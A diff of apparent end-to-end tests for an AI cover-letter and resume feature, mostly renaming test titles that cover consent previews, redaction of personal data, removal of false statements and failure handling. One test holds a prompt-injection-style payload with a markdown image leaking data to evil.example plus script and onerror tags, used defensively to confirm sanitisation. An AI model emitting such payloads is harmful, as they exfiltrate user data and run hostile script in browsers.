@@ -51,10 +51,7 @@ test.beforeEach(({ service }) => {
   service.answerWith(letterFor(/baked bread/))
 })
 
-test('what she is shown is what is sent, and what is not true of her comes back as a question', async ({
-  open,
-  service,
-}) => {
+test('the AI request matches its preview, and false statements come back as questions', async ({ open, service }) => {
   const page = await open(still)
   const person = { ...newPerson('Tamsin'), username: 'Tamsin Okonkwo' }
   const hers = [/tamsin/i, /okonkwo/i, /555-0134/, /canary street/i, /62704/, /@example\.org/]
@@ -62,40 +59,41 @@ test('what she is shown is what is sent, and what is not true of her comes back 
   const lie = 'I led a team of 12 engineers.'
   service.answerWith(letterFor(/baked bread/, sign => [{ text: lie, facts: [sign] }]))
 
-  await test.step('she makes her account', async () => {
+  await test.step('the user registers', async () => {
     await page.goto('/register')
     await register(page.getByRole('main'), person)
     await page.waitForURL('**/dashboard')
     await expect(left(startingBalance)).toBeAttached()
   })
 
-  const shown = await test.step('before she allows anything she sees it all, with signs for who she is', async () => {
-    await page.goto('/coveroptimizer?career=Baker')
-    await page.getByLabel('Employer (optional)').fill('Sunrise Bakery')
-    await page
-      .getByLabel('Additional Information')
-      .fill(
-        `${baked}\nI am Tamsin Okonkwo, ${person.email}, +1 (415) 555-0134, 12 Canary Street, Springfield, IL 62704.`,
-      )
-    await button(page, /^Generate Cover Letter/).click()
-    await expect(consentStep(page)).toBeVisible()
-    const { words, parts } = await readPreview(page)
-    expect(words).toMatch(/This goes to .+ \(127\.0\.0\.1.*, model stand-in\), and nothing else\./)
-    expect(words).toMatch(/a sign in the place of 1 name, .*1 e-mail address/)
-    expect(words).toContain('Sunrise Bakery')
-    expect(words).toContain(baked)
-    for (const each of hers) expect(words).not.toMatch(each)
-    expect(service.requests).toEqual([])
-    return parts
-  })
+  const shown =
+    await test.step('the consent step previews the request with placeholders for personal data', async () => {
+      await page.goto('/coveroptimizer?career=Baker')
+      await page.getByLabel('Employer (optional)').fill('Sunrise Bakery')
+      await page
+        .getByLabel('Additional Information')
+        .fill(
+          `${baked}\nI am Tamsin Okonkwo, ${person.email}, +1 (415) 555-0134, 12 Canary Street, Springfield, IL 62704.`,
+        )
+      await button(page, /^Generate Cover Letter/).click()
+      await expect(consentStep(page)).toBeVisible()
+      const { words, parts } = await readPreview(page)
+      expect(words).toMatch(/This goes to .+ \(127\.0\.0\.1.*, model stand-in\), and nothing else\./)
+      expect(words).toMatch(/a sign in the place of 1 name, .*1 e-mail address/)
+      expect(words).toContain('Sunrise Bakery')
+      expect(words).toContain(baked)
+      for (const each of hers) expect(words).not.toMatch(each)
+      expect(service.requests).toEqual([])
+      return parts
+    })
 
-  await test.step('she allows it, and exactly that is sent', async () => {
+  await test.step('after consent exactly the preview is sent', async () => {
     await agreeAndGoOn(page)
     await expect(ready(page)).toBeVisible()
     expectSent(service, shown, hers)
   })
 
-  await test.step('the letter says who wrote it, and holds no lie', async () => {
+  await test.step('the letter names its author and contains no false statement', async () => {
     await expect(label(page, 'AI-generated')).toBeVisible()
     await expect(left(startingBalance - 3)).toBeAttached()
     await expect(page.getByRole('region', { name: 'Only you know this' })).toContainText(`Left out: "${lie}"`)
@@ -105,7 +103,7 @@ test('what she is shown is what is sent, and what is not true of her comes back 
   })
 })
 
-test('words of the service that would run or load something never reach the page', async ({ visit, service }) => {
+test('active content from the AI service never reaches the page', async ({ visit, service }) => {
   const { page, spent } = await visit()
   const words =
     'I like it. ![cat](https://evil.example/leak?data=name) <img src="https://evil.example/x.png" onerror="window.__xss = 1"><script>window.__xss = 1</script>' +
@@ -120,7 +118,7 @@ test('words of the service that would run or load something never reach the page
   expect(await spent()).toBe(0)
 })
 
-test('she cancels while the service says nothing: it is broken off, and nothing is charged or kept', async ({
+test('canceling while the service is silent aborts the request; nothing is charged or stored', async ({
   visit,
   service,
 }) => {
@@ -137,10 +135,7 @@ test('she cancels while the service says nothing: it is broken off, and nothing 
   expect(await documentsOf(api)).toEqual([])
 })
 
-test('where the service fails, our own writer writes, for nothing, and the page says so', async ({
-  visit,
-  service,
-}) => {
+test('if the service fails, the built-in writer writes for free and the page says so', async ({ visit, service }) => {
   const { page, spent } = await visit()
   service.faults.push('error-500', 'error-500')
   await askForLetter(page)
@@ -152,7 +147,7 @@ test('where the service fails, our own writer writes, for nothing, and the page 
   expect(await spent()).toBe(0)
 })
 
-test('a reload in the middle finds the work again, which is done and charged once', async ({ visit, service }) => {
+test('a reload finds the running generation, which completes and is charged once', async ({ visit, service }) => {
   const { page, api, spent } = await visit()
   const { promise: answered, resolve: letGo } = Promise.withResolvers<void>()
   service.holdUntil = answered
@@ -171,7 +166,7 @@ test('a reload in the middle finds the work again, which is done and charged onc
   expect(await documentsOf(api)).toHaveLength(1)
 })
 
-test('consent taken back in another tab holds for the very next letter', async ({ visit, service }) => {
+test('consent withdrawn in another tab applies to the next letter', async ({ visit, service }) => {
   const { page, spent } = await visit()
   await askForLetter(page)
   await expect(ready(page)).toBeVisible()
@@ -207,7 +202,10 @@ Jun 2024 - present
 Skills
 Excel, Polish`
 
-test('a resume is worded by the service, without her contact data and without its lie', async ({ visit, service }) => {
+test('a resume sent to the service excludes contact data, and its false statement is removed', async ({
+  visit,
+  service,
+}) => {
   const { page, spent } = await visit()
   service.answerWith(({ text }) => {
     const signOf = (line: string) => new RegExp(`^(L\\d+): .*${line}`, 'm').exec(text)?.[1] ?? ''
@@ -238,7 +236,7 @@ test('a resume is worded by the service, without her contact data and without it
   expect(await spent()).toBe(3)
 })
 
-test('interview questions of the service: as plain text, labelled and charged, and nothing of her is sent', async ({
+test('interview questions from the service are plain text, labeled and charged, and contain nothing about the user', async ({
   visit,
   service,
 }) => {
